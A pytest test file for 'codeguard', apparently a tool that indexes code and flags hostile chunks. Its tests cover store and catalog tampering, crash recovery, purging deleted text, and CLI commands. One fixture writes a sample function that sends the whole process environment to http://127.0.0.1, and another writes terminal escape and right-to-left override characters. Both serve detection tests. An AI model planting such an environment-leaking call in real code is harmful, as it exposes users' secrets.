"""Damage is found whatever its kind, what was deleted is gone from the disk, crashes leave one whole store."""

import json
import sqlite3
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from in_process import codeguard
from lexical_settings import lexical_settings

from codeguard.api import CodeGuard
from codeguard.config import Settings
from codeguard.index.maintenance import verify
from codeguard.index.store import Row, Vectors, row_of
from codeguard.index.workspace import Workspace
from codeguard.ranking.inventory import Inventory

pytestmark = pytest.mark.ci

OURS = 'def add(a, b):\n    """Add two numbers.\n\n    >>> add(2, 3)\n    5\n    """\n    return a + b\n'
MARKER = "qzxmarkerpoison"
THEIRS = {
    "theirs/poison.py": f'def add(a, b):\n    """Add two numbers.\n\n    {MARKER}\n    """\n    return "{MARKER}", a - b\n',  # noqa: E501
    "theirs/other.py": "def sub(a, b):\n    return a - b\n\n\ndef twice(a):\n    return 2 * a\n",
}


@pytest.fixture
def corpus(tmp_path: Path) -> Path:
    for name, text in {"ours/m.py": OURS, **THEIRS}.items():
        path = tmp_path / "corpus" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return tmp_path / "corpus"


def settings_of(corpus: Path) -> Settings:
    return lexical_settings(corpus, corpus.parent / "state")


def index(corpus: Path) -> None:
    with CodeGuard.open(settings=settings_of(corpus), trust=[corpus / "ours"]) as guard:
        guard.index([corpus])


@pytest.fixture
def workspace(corpus: Path) -> Iterator[Workspace]:
    index(corpus)
    opened = Workspace(settings_of(corpus))
    yield opened
    opened.close()


def test_what_was_just_indexed_is_clean(workspace: Workspace) -> None:
    report = verify(workspace, all_vectors=True)
    assert report.clean
    assert report.embedded == report.chunks == workspace.vectors.count() > 3


def poison(workspace: Workspace) -> tuple[str, Row]:
    chunks = workspace.catalog.chunks_of("theirs/poison.py")
    id_ = next(iter(chunks))
    return id_, row_of(id_, chunks[id_])


def no_row(store: Vectors, row: Row) -> None:
    store.delete([row.id])


def other_vector(store: Vectors, row: Row) -> None:
    store.add([row], np.roll(store.embeddings([row.id])[row.id], 7)[None])


def injected(store: Vectors, row: Row) -> None:
    store.add([Row("injected", row.document, row.metadata)], store.embeddings([row.id])[row.id][None])


@pytest.mark.parametrize(
    ("change", "kind"),
    [
        (no_row, "store: missing"),
        (other_vector, "store: vector rewritten"),
        (injected, "store: entry that codeguard did not write"),
    ],
)
def test_a_rewritten_store_is_found_and_repaired(
    workspace: Workspace, change: Callable[[Vectors, Row], None], kind: str
) -> None:
    change(workspace.vectors, poison(workspace)[1])
    assert dict(verify(workspace).found) == {kind: 1}
    assert not verify(workspace, repair=True).clean
    assert verify(workspace, all_vectors=True).clean


@pytest.mark.parametrize(
    ("statement", "kind"),
    [
        (
            "UPDATE chunks SET text = text || ' ' WHERE path = 'theirs/poison.py'",
            "catalog: text is not as it was written",
        ),
        (
            "UPDATE chunks SET symbol = 'safe' WHERE path = 'theirs/poison.py'",
            "catalog: text is not as it was written",
        ),
        ("DELETE FROM files WHERE path = 'theirs/poison.py'", "catalog: chunk of no file"),
    ],
)
def test_a_rewritten_catalog_is_found(workspace: Workspace, statement: str, kind: str) -> None:
    with sqlite3.connect(workspace.catalog.path) as db:
        db.execute("PRAGMA foreign_keys = OFF")
        db.execute(statement)
    assert kind in verify(workspace).found


def test_an_interrupted_write_is_finished_and_no_damage(workspace: Workspace) -> None:
    id_, _ = poison(workspace)
    with workspace.catalog.transaction():
        workspace.catalog.intend_writes([id_])
    workspace.vectors.delete([id_])
    report = verify(workspace)
    assert report.clean
    assert report.carried_out == 1


def traces(folder: Path) -> list[str]:
    return [
        path.relative_to(folder).as_posix()
        for path in sorted(folder.rglob("*"))
        if path.is_file() and MARKER.encode() in path.read_bytes()
    ]


def test_deleted_poison_is_gone_from_the_disk_after_a_rebuild(corpus: Path) -> None:
    index(corpus)
    (corpus / "theirs" / "poison.py").unlink()
    index(corpus)
    state = corpus.parent / "state"
    assert traces(state), "deleted words stay in the index of words: without that there is nothing to test"
    with CodeGuard.open(settings=settings_of(corpus)) as guard:
        guard.index(rebuild=True)
        assert traces(state) == []
        assert guard.query("add two numbers").results
        assert verify(guard.workspace, all_vectors=True).clean


def test_an_inventory_weighs_findings_and_acceptances_as_a_query_does(corpus: Path) -> None:
    (corpus / "theirs" / "leak.py").write_text(
        "import os, urllib.request\n\n\ndef add(a, b):\n"
        "    urllib.request.urlopen('http://127.0.0.1/?' + str(dict(os.environ)))\n    return a + b\n"
    )

    def leaking() -> dict[str, Any]:
        with CodeGuard.open(settings=settings_of(corpus), trust=[corpus / "ours"]) as guard:
            guard.index([corpus])
            chunks = Inventory(guard.workspace).chunks("theirs/leak.py")
            (found,) = [item.to_json() for item in chunks if item.chunk.symbol]
            ranked = next(
                item for item in guard.query("add", k=9).ranking if item.chunk.sha256 == found["sha256"]
            )
            assert (found["convicted"], found["demoted"]) == (ranked.convicted, ranked.demoted)
            return found

    before = leaking()
    assert before["demoted"] or before["convicted"]
    assert "capabilities" in {item["signal"] for item in before["evidence"]}
    run(corpus, "accept", before["sha256"], "--reason", "known to us")
    after = leaking()
    assert not after["demoted"]
    assert not after["convicted"]


def run(corpus: Path, *words: str) -> subprocess.CompletedProcess[str]:
    return codeguard(*words, "--store", str(corpus.parent / "state"), cwd=corpus)


def test_the_commands(corpus: Path) -> None:
    (corpus / "theirs" / "escape.py").write_text('x = "\x1b[2J\u202e"\n')
    run(corpus, "index", ".", "--trust", "ours", "--embedding", "lexical")
    assert run(corpus, "store", "verify", "--all").returncode == 0
    with CodeGuard.open(settings=settings_of(corpus)) as guard:
        guard.workspace.vectors.delete(sorted(guard.workspace.vectors.ids())[:2])
    broken = run(corpus, "store", "verify", "--format", "json")
    assert broken.returncode == 1
    assert json.loads(broken.stdout)["found"] == {"store: missing": 2}
    assert run(corpus, "store", "verify", "--repair").returncode == 1
    assert run(corpus, "store", "verify").returncode == 0
    missing = codeguard("store", "verify", "--store", "none", cwd=corpus)
    assert missing.returncode == 2
    assert len(missing.stderr.splitlines()) == 1
